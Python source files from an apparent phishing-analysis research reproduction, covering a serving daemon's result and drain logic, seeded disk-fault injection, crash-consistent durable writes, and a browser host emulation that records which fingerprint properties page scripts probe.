                self._flush_pending_locked()
            elif self.storage_health != "ok":
                self.storage_health = "ok"
                self.storage_recoveries += 1

    def _note_storage_error(self, error: OSError) -> None:
        """Record a non-append durable failure (compaction, manifest)."""
        with self._storage_lock:
            self._note_append_failure_locked(error)

    def _on_result(self, job: ServeJob, wire, error) -> None:
        """Engine callback: exactly one verdict per accepted submission."""
        if error is not None:
            job.attempts += 1
            job.error_history.append(repr(error))
            if (
                self.retry_policy.is_transient(error)
                and job.attempts < self.retry_policy.max_attempts
            ):
                with self._completion:
                    self.stats.retried += 1
                self._engine.submit([job])
                return
            with self._completion:
                self.failed += 1
                self.stats.dead_lettered += 1
                self._reporter(job.reporter)["failed"] += 1
                self._completion.notify_all()
            if job.session is not None:
                job.session.send(
                    {
                        "op": "failed",
                        "id": job.client_id,
                        "message_index": job.index,
                        "error": job.error_history[-1],
                        "attempts": job.attempts,
                    }
                )
                job.session.finish(job.index)
            self._manifest_maybe()
            return

        # The worker already rendered the final checkpoint line: append
        # the bytes and splice them into the verdict — the hot path
        # never re-serializes the record.  A failing disk buffers the
        # line (degraded/readonly) instead of killing the daemon; the
        # verdict still streams below — analysis happened, and the
        # record is queued for the checkpoint, not lost.
        appended = self._append_durable(wire.wire)
        compacted = False
        with self._completion:
            self.checkpoint_lines += appended
            if (
                self.config.compact_lines
                and self.checkpoint_lines >= self.config.compact_lines
                and self.storage_health == "ok"
            ):
                try:
                    result = self.checkpoint.compact(retain=self.config.retain)
                except OSError as error:
                    self._note_storage_error(error)
                else:
                    self.checkpoint_lines = result.lines_after
                    self.compactions += 1
                    compacted = True
            if not getattr(self._engine, "provides_stats", False):
                # Thread engine: no worker shards, fold the record here.
                self.stats.update(wire.record)
            self.completed += 1
            self._reporter(job.reporter)["completed"] += 1
            if job.submitted_at:
                self._latencies.append(time.monotonic() - job.submitted_at)
            self._completion.notify_all()
        if job.session is not None:
            job.session.send_raw(
                encode_verdict_line(job.client_id, job.index, wire.payload)
            )
            job.session.finish(job.index)
        self._manifest_maybe(force=compacted)

    def _manifest_maybe(self, force: bool = False) -> None:
        every = max(1, self.config.manifest_every)
        if force or (self.completed + self.failed) % every == 0:
            try:
                self._write_manifest("serving")
            except OSError as error:
                # Best-effort progress snapshot: records are the source
                # of truth and _restore() trusts them over a stale
                # manifest, so degrade instead of dying.
                self._note_storage_error(error)

    # ------------------------------------------------------------------
    # Drain
    # ------------------------------------------------------------------
    def _drain(self) -> None:
        """Finish everything accepted, persist exact state, stop."""
        with self._admission_lock:
            self._draining = True
            self.scheduler.close()
        with self._completion:
            self._completion.notify_all()  # wake backpressure waiters
        self._stop_accepting = True
        if self._listener is not None:
            # Wake a blocked accept() with a throwaway connection (closing
            # the listener alone does not reliably interrupt it), then close.
            host = self.config.host if self.config.host not in ("", "0.0.0.0") else "127.0.0.1"
            try:
                socket.create_connection((host, self.port), timeout=1.0).close()
            except OSError:
                pass
            try:
                self._listener.close()
            except OSError:
                pass
        for thread in self._threads:
            thread.join(timeout=60.0)
        # Every accepted submission resolves to a verdict or a final
        # failure; the engine's crash/retry machinery guarantees progress.
        with self._completion:
            while self._backlog() > 0:
                self._completion.wait(0.25)
        if self._engine is not None:
            self._engine.stop()
        with self._storage_lock:
            self._flush_pending_locked()
            stranded = len(self._pending_wires)
        if stranded:
            # Zero-loss means zero *silent* loss: if the disk never
            # recovered, say so loudly and exit non-zero.
            self._fatal = (
                f"{stranded} accepted verdict record(s) could not be "
                f"persisted (storage {self.storage_health}: "
                f"{self.last_storage_error})"
            )
        try:
            self._write_manifest("stopped")
        except OSError as error:
            self._fatal = self._fatal or f"final manifest write failed: {error}"
        self.checkpoint.close()
        with self._sessions_lock:
            sessions = list(self._sessions.values())
        for session in sessions:
            session.close()
        self._drained.set()

    # ------------------------------------------------------------------
    # Introspection / persistence
    # ------------------------------------------------------------------
    def _latency_quantiles(self) -> dict:
        window = sorted(self._latencies)
        if not window:
            return {"count": 0, "p50_ms": None, "p99_ms": None}

        def at(q: float) -> float:
            position = min(len(window) - 1, int(q * (len(window) - 1)))
            return round(window[position] * 1000.0, 3)

        return {"count": len(window), "p50_ms": at(0.50), "p99_ms": at(0.99)}

    def stats_payload(self) -> dict:
        with self._completion:
            queued = len(self.scheduler)
            in_flight = max(0, self._backlog() - queued)
            reporters = {
                name: dict(counter) for name, counter in sorted(self.reporters.items())
            }
            payload = {
                "status": "draining" if self._draining else "serving",
                "uptime_seconds": round(time.monotonic() - self.started_at, 3),
                "executor": getattr(self._engine, "name", self.config.executor),
                "jobs": self.config.jobs,
                "seed": self.config.seed,
                "scale": self.config.scale,
                "submitted": self.submitted,
                "accepted": self.accepted,
                "shed": self.shed,
                "rejected": self.rejected,
                "completed": self.completed,
                "failed": self.failed,
                "queued": queued,
                "in_flight": in_flight,
                "latency": self._latency_quantiles(),
                "checkpoint": {
                    "directory": str(self.directory),
                    "lines": self.checkpoint_lines,
                    "compactions": self.compactions,
                    "retain": self.config.retain,
                },
                "storage": self._storage_payload(),
                "analysis": self.stats.as_dict(),
            }
        depths = self.scheduler.depths()
        for name, depth in depths.items():
            reporters.setdefault(name, {})["queued"] = depth
        payload["reporters"] = reporters
        # Outside _completion: ingress has its own locks, and the
        # counters are telemetry, not part of the service state the
        # manifest persists.
        payload["ingress"] = self.ingress_payload()
        return payload

    def ingress_payload(self) -> dict:
        """Connection-lifecycle telemetry (/stats and /healthz only).

        Deliberately never written to the manifest: a daemon run with
        ``--client-faults off`` must leave a checkpoint directory
        byte-identical to one produced before ingress hardening existed.
        """
        with self._sessions_lock:
            open_connections = self._open_connections
            active_sessions = len(self._sessions)
        with self._ingress_lock:
            counters = dict(self._ingress)
        return {
            "open_connections": open_connections,
            "active_sessions": active_sessions,
            "max_sessions": self.config.max_sessions,
            "strike_budget": self.config.strike_budget,
            "sessions_total": counters.get("sessions_total", 0),
            "busy_refused": counters.get("busy_refused", 0),
            "idle_reaped": counters.get("idle_reaped", 0),
            "line_deadline_reaped": counters.get("line_deadline_reaped", 0),
            "mid_line_disconnects": counters.get("mid_line_disconnects", 0),
            "malformed_lines": counters.get("malformed_lines", 0),
            "strike_closes": counters.get("strike_closes", 0),
            "oversized_lines": counters.get("oversized_lines", 0),
            "dead_peers": counters.get("dead_peers", 0),
            "http_requests": counters.get("http_requests", 0),
        }

    def _storage_payload(self) -> dict:
        with self._storage_lock:
            return {
                "health": self.storage_health,
                "durability": self.config.durability,
                "pending_appends": len(self._pending_wires),
                "append_errors": self.append_errors,
                "storage_shed": self.storage_shed,
                "recoveries": self.storage_recoveries,
                "last_error": self.last_storage_error,
            }

    def health_payload(self) -> dict:
        return {
            "status": "draining" if self._draining else self.storage_health,
            "pid": os.getpid(),
            "port": self.port,
            "uptime_seconds": round(time.monotonic() - self.started_at, 3),
            "backlog": self._backlog(),
            "storage": self._storage_payload(),
            "ingress": self.ingress_payload(),
        }

    def _service_state(self) -> dict:
        return {
            "next_index": self.next_index,
            "submitted": self.submitted,
            "accepted": self.accepted,
            "shed": self.shed,
            "rejected": self.rejected,
            "completed": self.completed,
            "failed": self.failed,
            "compactions": self.compactions,
            "executor": getattr(self._engine, "name", self.config.executor),
            "reporters": {
                name: dict(counter) for name, counter in sorted(self.reporters.items())
            },
            "admission": self.admission.snapshot(),
        }

    def _write_manifest(self, status: str) -> None:
        with self._completion:
            manifest = RunManifest(
                seed=self.config.seed,
                scale=self.config.scale,
                jobs=self.config.jobs,
                total_messages=self.accepted,
                completed=self.completed,
                status=status,
                stats=self.stats.as_dict(),
                budget=self.config.budget,
                guard_limits=[list(pair) for pair in self.config.guard_limits or ()] or None,
                storage_faults=self.config.storage_faults,
                storage_fault_seed=self.config.storage_fault_seed,
                service=self._service_state(),
            )
        self.checkpoint.write_manifest(manifest)
