"""Deterministic fault injection for the filesystem under the pipeline.

The paper's CrawlerBox ingested user-reported mail for ten months; over
that horizon the disk under an always-on analysis daemon *will* fill,
flake, and lose power mid-rename.  This module extends the seeded fault
discipline of :mod:`repro.web.faults` one layer down: a
:class:`StorageFaultEngine` installed on :mod:`repro.storage.durable`
intercepts every durable write at the single choke point and injects
the failure taxonomy crash-consistent storage code must survive:

===============  ====================================================
kind             observable effect
===============  ====================================================
``short_write``  only a prefix of the buffer reaches the file (EIO)
``enospc``       write fails with ENOSPC for a whole *episode* of
                 consecutive operations, then space returns
``eio``          write fails outright with EIO
``fsync_fail``   the data was written but fsync reports EIO
``torn_rename``  crash between temp-file write and ``os.replace``:
                 the temp survives, the rename never happens
===============  ====================================================

Determinism contract: every decision is a pure function of
``(storage_fault_seed, path key, op, op_index)`` hashed through BLAKE2
into a private :class:`random.Random`.  The *path key* is the file's
basename (``records.jsonl``, ``manifest.json`` …), not its absolute
path, so the same seed produces the same weather in any checkpoint
directory — a soak run reproduces under pytest's tmp_path exactly as it
did in CI.  ``op_index`` is a per-``(path key, op)`` counter maintained
by the engine: the i-th append to ``records.jsonl`` rolls the same
fault on every replay of the same call sequence.
"""

from __future__ import annotations

import errno
import hashlib
import pathlib
import random
from dataclasses import dataclass

__all__ = [
    "STORAGE_FAULT_PROFILES",
    "FsyncFailure",
    "InjectedDiskFull",
    "InjectedIOError",
    "ShortWrite",
    "StorageFaultEngine",
    "StorageFaultError",
    "StorageFaultProfile",
    "TornRename",
    "storage_fault_profile",
]


class StorageFaultError(OSError):
    """Base class for injected storage faults.

    Subclasses :class:`OSError` with a genuine ``errno``, so code that
    handles real disk failures handles injected ones identically;
    ``kind`` names the taxonomy entry for telemetry.
    """

    kind = "storage-fault"
    fault_errno = errno.EIO

    def __init__(self, message: str):
        super().__init__(self.fault_errno, message)


class ShortWrite(StorageFaultError):
    """Only a prefix of the buffer reached the file before the error."""

    kind = "short_write"
    fault_errno = errno.EIO

    def __init__(self, message: str, written: int = 0):
        super().__init__(message)
        #: Bytes actually written before the failure surfaced.
        self.written = written


class InjectedDiskFull(StorageFaultError):
    kind = "enospc"
    fault_errno = errno.ENOSPC


class InjectedIOError(StorageFaultError):
    kind = "eio"
    fault_errno = errno.EIO


class FsyncFailure(StorageFaultError):
    """The write landed in the page cache but fsync reported failure."""

    kind = "fsync_fail"
    fault_errno = errno.EIO


class TornRename(StorageFaultError):
    """Simulated crash between temp-file write and atomic rename."""

    kind = "torn_rename"
    fault_errno = errno.EIO


@dataclass(frozen=True)
class StorageFaultProfile:
    """Per-operation fault rates (independent probabilities per op).

    Write-phase kinds (enospc / eio / short write) roll as disjoint
    bands of a single uniform draw, so at most one fires per write and
    each keeps its configured probability.  ``enospc`` is *episodic*:
    one firing marks the start of a full-disk episode lasting
    ``enospc_run_length`` consecutive operations on that file, after
    which space "returns" — exactly the failure shape a degraded serve
    daemon must ride out and recover from.
    """

    name: str = "custom"
    short_write: float = 0.0
    enospc: float = 0.0
    eio: float = 0.0
    fsync_fail: float = 0.0
    torn_rename: float = 0.0
    #: Consecutive ops ENOSPC persists for once an episode starts.
    enospc_run_length: int = 4

    RATE_FIELDS = (
        "short_write",
        "enospc",
        "eio",
        "fsync_fail",
        "torn_rename",
    )

    @property
    def active(self) -> bool:
        """Any fault kind has a non-zero probability."""
        return any(getattr(self, name) > 0.0 for name in self.RATE_FIELDS)


#: The CLI presets (``--storage-faults {off,light,heavy,hostile}``).
STORAGE_FAULT_PROFILES: dict[str, StorageFaultProfile] = {
    "off": StorageFaultProfile(name="off"),
    "light": StorageFaultProfile(
        name="light",
        short_write=0.005,
        enospc=0.002,
        eio=0.002,
        fsync_fail=0.002,
        torn_rename=0.005,
        enospc_run_length=3,
    ),
    "heavy": StorageFaultProfile(
        name="heavy",
        short_write=0.02,
        enospc=0.01,
        eio=0.01,
        fsync_fail=0.01,
        torn_rename=0.02,
        enospc_run_length=4,
    ),
    "hostile": StorageFaultProfile(
        name="hostile",
        short_write=0.05,
        enospc=0.03,
        eio=0.02,
        fsync_fail=0.03,
        torn_rename=0.05,
        enospc_run_length=6,
    ),
}


def storage_fault_profile(name: str) -> StorageFaultProfile:
    """Look up a preset by name (``off``/``light``/``heavy``/``hostile``)."""
    try:
        return STORAGE_FAULT_PROFILES[name]
    except KeyError:
        raise ValueError(
            f"unknown storage fault profile {name!r}; "
            f"expected one of {sorted(STORAGE_FAULT_PROFILES)}"
        ) from None


class StorageFaultEngine:
    """Seeded fault scheduler for the durable-write layer.

    The only mutable state is the per-``(path key, op)`` operation
    counter — the storage analogue of the retry ``attempt`` ordinal the
    web engine receives from its caller.  Given the same seed and the
    same sequence of durable operations, every replay injects the same
    faults; a *retry* of a failed operation advances the counter and
    re-rolls, which is what lets bounded-retry loops ride out an
    ENOSPC episode instead of replaying the same failure forever.
    """

    def __init__(self, profile: StorageFaultProfile | None = None, seed: int = 0):
        self.profile = profile or STORAGE_FAULT_PROFILES["off"]
        self.seed = seed
        #: (path key, op) -> next op_index.
        self._op_counts: dict[tuple[str, str], int] = {}
        #: Telemetry: fault kind -> times injected.
        self.injected: dict[str, int] = {}

    @property
    def active(self) -> bool:
        return self.profile.active

    # ------------------------------------------------------------------
    # The deterministic schedule
    # ------------------------------------------------------------------
    @staticmethod
    def path_key(path) -> str:
        """Basename, so weather reproduces across checkpoint dirs."""
        return pathlib.PurePath(path).name

    def _rng(self, key: str, op: str, op_index: int) -> random.Random:
        """A private RNG that depends only on the decision coordinates."""
        digest = hashlib.blake2b(
            f"{self.seed}:{key}:{op}:{op_index}".encode("utf-8"),
            digest_size=8,
        ).digest()
        return random.Random(int.from_bytes(digest, "big"))

    def _next_index(self, key: str, op: str) -> int:
        slot = (key, op)
        op_index = self._op_counts.get(slot, 0)
        self._op_counts[slot] = op_index + 1
        return op_index

    def _note(self, kind: str) -> None:
        self.injected[kind] = self.injected.get(kind, 0) + 1

    def _enospc_active(self, key: str, op_index: int) -> bool:
        """True when ``op_index`` falls inside a full-disk episode.

        An episode *starts* at any index whose per-index roll fires and
        covers the next ``enospc_run_length`` operations, so the check
        scans the trailing window — pure hash evaluations, no state.
        """
        rate = self.profile.enospc
        if rate <= 0.0:
            return False
        run = max(1, self.profile.enospc_run_length)
        for start in range(max(0, op_index - run + 1), op_index + 1):
            if self._rng(key, "enospc", start).random() < rate:
                return True
        return False

    # ------------------------------------------------------------------
    # Interception points (called by repro.storage.durable)
    # ------------------------------------------------------------------
    def write_fault(
        self, path, nbytes: int
    ) -> tuple[StorageFaultError, int] | None:
        """Decide the fate of one write of ``nbytes`` to ``path``.

        Returns None (write proceeds untouched) or ``(error, prefix)``:
        the caller must write exactly ``prefix`` bytes of the buffer
        and then raise ``error``.  ENOSPC and EIO fire before any byte
        lands; a short write lands a deterministic strict prefix.
        """
        if not self.profile.active:
            return None
        key = self.path_key(path)
        op_index = self._next_index(key, "write")
        if self._enospc_active(key, op_index):
            self._note("enospc")
            return InjectedDiskFull(f"{key}: no space left on device (injected)"), 0
        rng = self._rng(key, "write", op_index)
        roll = rng.random()
        if roll < self.profile.eio:
            self._note("eio")
            return InjectedIOError(f"{key}: I/O error (injected)"), 0
        roll -= self.profile.eio
        if roll < self.profile.short_write:
            prefix = rng.randrange(max(1, nbytes)) if nbytes else 0
            self._note("short_write")
            return (
                ShortWrite(
                    f"{key}: short write, {prefix}/{nbytes} bytes (injected)",
                    written=prefix,
                ),
                prefix,
            )
        return None

    def check_fsync(self, path) -> None:
        """Raise :class:`FsyncFailure` when this fsync is scheduled to fail."""
        if self.profile.fsync_fail <= 0.0:
            return
        key = self.path_key(path)
        op_index = self._next_index(key, "fsync")
        if self._rng(key, "fsync", op_index).random() < self.profile.fsync_fail:
            self._note("fsync_fail")
            raise FsyncFailure(f"{key}: fsync failed (injected)")

    def check_replace(self, path) -> None:
        """Raise :class:`TornRename` when this rename is scheduled to
        "crash" — the caller must leave the temp file in place."""
        if self.profile.torn_rename <= 0.0:
            return
        key = self.path_key(path)
        op_index = self._next_index(key, "replace")
        if self._rng(key, "replace", op_index).random() < self.profile.torn_rename:
            self._note("torn_rename")
            raise TornRename(f"{key}: crashed between write and rename (injected)")
