"""Crash-consistent durable writes + deterministic storage faults.

Everything the pipeline persists — checkpoint records, manifests,
``endpoint.json``, exports — flows through :mod:`repro.storage.durable`,
the single place that knows how to append, fsync, and atomically
replace.  :mod:`repro.storage.faults` injects seeded disk failures
(short writes, ENOSPC, EIO, fsync failures, torn renames) underneath
that layer, mirroring the deterministic weather discipline of
:mod:`repro.web.faults` one layer down the stack.
"""

from repro.storage.durable import (
    DEFAULT_DURABILITY,
    DURABILITY_POLICIES,
    FSYNC_BATCH_LINES,
    RETRY_ATTEMPTS,
    DurableFile,
    atomic_replace,
    durable_write_text,
    fsync_dir,
    install_storage_faults,
    note_durable_record,
    retrying,
    storage_engine,
    validate_durability,
)
from repro.storage.faults import (
    STORAGE_FAULT_PROFILES,
    FsyncFailure,
    InjectedDiskFull,
    InjectedIOError,
    ShortWrite,
    StorageFaultEngine,
    StorageFaultError,
    StorageFaultProfile,
    TornRename,
    storage_fault_profile,
)

__all__ = [
    "DEFAULT_DURABILITY",
    "DURABILITY_POLICIES",
    "DurableFile",
    "FSYNC_BATCH_LINES",
    "RETRY_ATTEMPTS",
    "FsyncFailure",
    "InjectedDiskFull",
    "InjectedIOError",
    "STORAGE_FAULT_PROFILES",
    "ShortWrite",
    "StorageFaultEngine",
    "StorageFaultError",
    "StorageFaultProfile",
    "TornRename",
    "atomic_replace",
    "durable_write_text",
    "fsync_dir",
    "install_storage_faults",
    "note_durable_record",
    "retrying",
    "storage_engine",
    "storage_fault_profile",
    "validate_durability",
]
