"""The single choke point for every durable write in the pipeline.

Three primitives cover everything the pipeline persists:

- :class:`DurableFile` — an append-only handle (checkpoint records,
  dead letters) that truncates back to the pre-write offset when a
  write fails partway, so a retried append never leaves interior
  corruption behind;
- :func:`durable_write_text` — whole-file replacement via temp file +
  :func:`atomic_replace` (manifest, ``endpoint.json``, exports);
- :func:`atomic_replace` — ``os.replace`` followed by a *directory*
  fsync, because a rename alone is not power-loss durable: the new
  directory entry lives in the parent's data blocks.

Durability policy (``--durability`` on run/resume/serve)::

    none    never fsync — page cache only (benchmarks, scratch runs)
    batch   fsync the records file every FSYNC_BATCH_LINES appends and
            on close; fsync whole-file replacements (the default)
    always  additionally fsync after *every* append — at most one
            record is lost to power failure, at a per-append cost

All calls consult the process-wide :class:`StorageFaultEngine`
installed by :func:`install_storage_faults` (None = real disk only).
The engine lives here — not in RunnerConfig — because only the parent
process writes durable state; workers ship wire bytes back and never
touch the checkpoint.

``REPRO_KILL_AFTER_RECORDS=N`` arms the crash-soak hook: the process
SIGKILLs itself immediately after the N-th durable record append, a
deterministic record boundary the soak harness (``tests/test_crash_soak``
/ ``benchmarks/bench_crash_soak``) uses to shoot the pipeline at
reproducible instants.
"""

from __future__ import annotations

import errno
import os
import pathlib
import signal
import time

from repro.storage.faults import ShortWrite, StorageFaultEngine

__all__ = [
    "DEFAULT_DURABILITY",
    "DURABILITY_POLICIES",
    "FSYNC_BATCH_LINES",
    "RETRY_ATTEMPTS",
    "DurableFile",
    "atomic_replace",
    "durable_write_text",
    "fsync_dir",
    "install_storage_faults",
    "note_durable_record",
    "retrying",
    "storage_engine",
    "validate_durability",
]

DURABILITY_POLICIES = ("none", "batch", "always")
DEFAULT_DURABILITY = "batch"

#: Under ``batch`` durability, fsync the append handle every N lines.
FSYNC_BATCH_LINES = 256

#: errnos worth retrying: transient by construction (an ENOSPC episode
#: ends, an EIO may be a one-off) — everything else propagates at once.
_RETRYABLE_ERRNOS = frozenset({errno.ENOSPC, errno.EIO})

#: Bounded-retry attempts for transient disk errors: enough to outlast
#: a ``heavy`` full-disk episode (4 consecutive failing ops) with slack
#: for a stray fault on the recovery attempts; a genuinely stuck disk
#: still surfaces in well under a second.
RETRY_ATTEMPTS = 8

KILL_AFTER_ENV = "REPRO_KILL_AFTER_RECORDS"

_engine: StorageFaultEngine | None = None
_records_appended = 0


def install_storage_faults(engine: StorageFaultEngine | None) -> None:
    """Install (or clear, with None) the process-wide fault engine."""
    global _engine
    _engine = engine if engine is not None and engine.active else None


def storage_engine() -> StorageFaultEngine | None:
    return _engine


def validate_durability(policy: str) -> str:
    if policy not in DURABILITY_POLICIES:
        raise ValueError(
            f"unknown durability policy {policy!r}; "
            f"expected one of {DURABILITY_POLICIES}"
        )
    return policy


def note_durable_record() -> None:
    """Crash-soak hook: count record appends, SIGKILL self at the mark.

    SIGKILL (not sys.exit) so nothing — no atexit, no finally, no
    drain — gets to tidy up: the checkpoint is left exactly as the
    page cache holds it, which is the state resume must survive.
    """
    mark = os.environ.get(KILL_AFTER_ENV)
    if not mark:
        return
    global _records_appended
    _records_appended += 1
    if _records_appended >= int(mark):
        os.kill(os.getpid(), signal.SIGKILL)


def retrying(operation, attempts: int = RETRY_ATTEMPTS, base_delay: float = 0.002):
    """Run ``operation`` with bounded retry on transient disk errors.

    Retries only ENOSPC/EIO-class failures (injected faults carry real
    errnos, so both kinds are handled by one predicate), sleeping a
    short exponential backoff between attempts; the final failure
    propagates so callers can degrade instead of looping forever.
    """
    last: OSError | None = None
    for attempt in range(attempts):
        try:
            return operation()
        except OSError as err:
            if err.errno not in _RETRYABLE_ERRNOS:
                raise
            last = err
            if attempt + 1 < attempts:
                time.sleep(base_delay * (2**attempt))
    assert last is not None
    raise last


# ----------------------------------------------------------------------
# Primitives
# ----------------------------------------------------------------------
def _checked_write(handle, path, data: bytes) -> None:
    """Write ``data`` through the fault engine (single write choke point)."""
    engine = _engine
    if engine is not None:
        fault = engine.write_fault(path, len(data))
        if fault is not None:
            error, prefix = fault
            if prefix:
                handle.write(data[:prefix])
                handle.flush()
            raise error
    handle.write(data)


def _checked_fsync(handle, path) -> None:
    engine = _engine
    if engine is not None:
        engine.check_fsync(path)
    os.fsync(handle.fileno())


def fsync_dir(directory) -> None:
    """fsync a directory so a just-renamed entry survives power loss."""
    engine = _engine
    if engine is not None:
        engine.check_fsync(directory)
    try:
        fd = os.open(directory, os.O_RDONLY)
    except OSError:
        return  # platforms that cannot open directories (e.g. Windows)
    try:
        os.fsync(fd)
    finally:
        os.close(fd)


def atomic_replace(temp, destination, durability: str = DEFAULT_DURABILITY) -> None:
    """``os.replace(temp, destination)`` made power-loss durable.

    A :class:`~repro.storage.faults.TornRename` fault fires *before*
    the rename and leaves ``temp`` in place — the crashed-between-
    write-and-rename state fsck must be able to diagnose.
    """
    destination = pathlib.Path(destination)
    engine = _engine
    if engine is not None:
        engine.check_replace(destination)
    os.replace(temp, destination)
    if durability != "none":
        fsync_dir(destination.parent)


def durable_write_text(
    path,
    text: str,
    durability: str = DEFAULT_DURABILITY,
    suffix: str = ".tmp",
) -> None:
    """Atomically replace ``path`` with ``text`` (temp + rename).

    The temp file is fsynced before the rename (unless ``none``), so
    the rename can never promote a half-written file; on any failure
    the destination is untouched and the temp is left behind for
    post-crash inspection.
    """
    path = pathlib.Path(path)
    temp = path.with_name(path.name + suffix)
    data = text.encode("utf-8")
    with temp.open("wb") as handle:
        _checked_write(handle, temp, data)
        handle.flush()
        if durability != "none":
            _checked_fsync(handle, temp)
    atomic_replace(temp, path, durability)


class DurableFile:
    """Append-only file with crash-consistent write semantics.

    The invariant: after any append — successful, failed, or retried —
    the file contains only whole lines previously appended, possibly
    plus one torn tail if the *process* died mid-write.  A failed
    append truncates back to the pre-write offset before the error
    propagates, so a bounded-retry caller re-appends onto a clean tail
    instead of concatenating a partial line with its retry (which
    would be interior corruption, not a tolerated torn tail).

    Not thread-safe: callers (CheckpointStore) hold their own lock.
    """

    def __init__(
        self,
        path,
        durability: str = DEFAULT_DURABILITY,
        fsync_every: int = FSYNC_BATCH_LINES,
    ):
        self.path = pathlib.Path(path)
        self.durability = validate_durability(durability)
        self.fsync_every = max(1, fsync_every)
        self._handle = None
        self._unsynced = 0

    def _open(self):
        if self._handle is None:
            self._handle = self.path.open("ab")
        return self._handle

    def append(self, data: bytes) -> None:
        """Append ``data`` (one full line, newline included), flushed to
        the OS so a process kill loses at most the line being written."""
        handle = self._open()
        offset = handle.tell()
        try:
            _checked_write(handle, self.path, data)
            handle.flush()
        except OSError:
            self._rewind(handle, offset)
            raise
        if self.durability == "always":
            self._checked_sync(handle)
        elif self.durability == "batch":
            self._unsynced += 1
            if self._unsynced >= self.fsync_every:
                self._checked_sync(handle)

    def _rewind(self, handle, offset: int) -> None:
        """Best-effort: drop the partial write so the tail stays clean."""
        try:
            handle.flush()
        except OSError:
            pass
        try:
            handle.seek(offset)
            handle.truncate(offset)
        except OSError:
            pass  # torn tail it is — scan() tolerates exactly this

    def _checked_sync(self, handle) -> None:
        self._unsynced = 0
        _checked_fsync(handle, self.path)

    def sync(self) -> None:
        """Force an fsync now (manifest boundaries, drain)."""
        if self.durability == "none":
            return
        handle = self._open()
        handle.flush()
        self._checked_sync(handle)

    def close(self) -> None:
        if self._handle is None:
            return
        try:
            if self.durability != "none" and self._unsynced:
                try:
                    self._checked_sync(self._handle)
                except OSError:
                    pass  # closing anyway; data is flushed to the OS
        finally:
            self._handle.close()
            self._handle = None
            self._unsynced = 0
