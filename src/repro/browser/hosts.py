"""Host objects exposed to page scripts (navigator, document, XHR, ...).

This is where cloaking scripts meet the browser profile: every value a
fingerprinting script can probe (``navigator.webdriver``, the user
agent, ``Intl`` timezone, screen metrics, ``window.chrome``,
``performance.now`` granularity) is derived from the active
:class:`~repro.browser.profile.BrowserProfile`.  Property *reads* on the
sensitive objects are recorded, so the analysis phase can report which
fingerprint checks a phishing page actually performed.
"""

from __future__ import annotations

import json
from typing import TYPE_CHECKING

from repro.js.interp import Interpreter, JSArray, JSObject, NativeFunction, UNDEFINED, to_js_string, to_number, truthy
from repro.js.stdlib import js_to_python, native, python_to_js

if TYPE_CHECKING:  # pragma: no cover - typing only
    from repro.browser.session import PageSession


class ObservedJSObject(JSObject):
    """A JSObject recording which property names scripts read."""

    def __init__(self, label: str, properties: dict | None = None):
        super().__init__(properties)
        self.label = label
        self.reads: list[str] = []

    def get(self, name: str) -> object:
        self.reads.append(name)
        return super().get(name)


def install_browser_hosts(interp: Interpreter, session: "PageSession") -> None:
    """Wire the page's host environment into a fresh interpreter."""
    profile = session.browser.profile
    declare = interp.globals.declare

    # ------------------------------------------------------------------
    # navigator / screen / Intl / performance
    # ------------------------------------------------------------------
    navigator = ObservedJSObject(
        "navigator",
        {
            "userAgent": profile.user_agent,
            "webdriver": profile.webdriver_flag,
            "language": profile.languages[0] if profile.languages else "en-US",
            "languages": JSArray(list(profile.languages)),
            "userLanguage": profile.languages[0] if profile.languages else "en-US",
            "platform": "iPhone" if profile.is_mobile else "Win32",
            "hardwareConcurrency": 4.0,
            "cookieEnabled": profile.cookies_enabled,
            "plugins": JSObject({"length": float(profile.plugins_count)}),
            "maxTouchPoints": 5.0 if profile.is_mobile else 0.0,
            "vendor": "Google Inc.",
        },
    )
    session.navigator = navigator
    declare("navigator", navigator)

    screen = ObservedJSObject(
        "screen",
        {
            "width": float(profile.screen_width),
            "height": float(profile.screen_height),
            "availWidth": float(profile.screen_width),
            "availHeight": float(profile.screen_height - (0 if profile.headless else 40)),
            "colorDepth": float(profile.color_depth),
            "pixelDepth": float(profile.color_depth),
        },
    )
    session.screen = screen
    declare("screen", screen)

    def _resolved_options(_i, _t, _a):
        session.intl_reads.append("timeZone")
        return JSObject({"timeZone": profile.timezone, "locale": navigator.properties["language"]})

    date_time_format = native(
        lambda _i, _t, _a: JSObject({"resolvedOptions": native(_resolved_options, "resolvedOptions")}),
        "DateTimeFormat",
    )
    declare("Intl", JSObject({"DateTimeFormat": date_time_format}))

    def _performance_now(_interp, _t, _a):
        value = _interp.clock_ms()
        if profile.vm_timing_quantization:
            # VMs and coarse-grained timer mitigations quantise the clock —
            # the "timing red pill" NotABot avoids by running on hardware.
            return float(int(value / 10.0) * 10.0)
        return value

    declare("performance", JSObject({"now": native(_performance_now, "now")}))

    # ------------------------------------------------------------------
    # location
    # ------------------------------------------------------------------
    url = session.url
    location = JSObject(
        {
            "href": url.raw,
            "protocol": url.scheme + ":",
            "host": url.host,
            "hostname": url.host,
            "pathname": url.path,
            "search": ("?" + url.query) if url.query else "",
            "hash": ("#" + url.fragment) if url.fragment else "",
            "origin": url.origin,
        }
    )

    def _location_assign(_i, _t, args):
        if args:
            location.set("href", to_js_string(args[0]))
        return UNDEFINED

    def _location_reload(_i, _t, _a):
        session.reload_requested = True
        return UNDEFINED

    location.set("assign", native(_location_assign, "assign"))
    location.set("replace", native(_location_assign, "replace"))
    location.set("reload", native(_location_reload, "reload"))
    session.location = location
    declare("location", location)

    # ------------------------------------------------------------------
    # document
    # ------------------------------------------------------------------
    document = ObservedJSObject("document")
    session.document = document

    def _element_object(tag: str, element_id: str = "", text: str = "") -> JSObject:
        obj = JSObject(
            {
                "tagName": tag.upper(),
                "id": element_id,
                "innerHTML": text,
                "textContent": text,
                "innerText": text,
                "value": "",
                "style": JSObject({"display": "", "filter": "", "visibility": ""}),
                "src": "",
                "href": "",
            }
        )

        def _add_listener(_i, this, args):
            if len(args) >= 2:
                event_type = to_js_string(args[0])
                session.listeners.append((this, event_type, args[1]))
            return UNDEFINED

        obj.set("addEventListener", native(_add_listener, "addEventListener"))
        obj.set(
            "setAttribute",
            native(
                lambda _i, this, args: this.set(to_js_string(args[0]), to_js_string(args[1]))
                if len(args) >= 2
                else UNDEFINED,
                "setAttribute",
            ),
        )
        obj.set(
            "getAttribute",
            native(
                lambda _i, this, args: this.get(to_js_string(args[0])) if args else None,
                "getAttribute",
            ),
        )
        obj.set(
            "appendChild",
            native(lambda _i, this, args: session.appended_nodes.append(args[0]) or args[0] if args else UNDEFINED, "appendChild"),
        )
        obj.set("click", native(lambda _i, this, _a: session.dispatch_event(this, "click"), "click"))
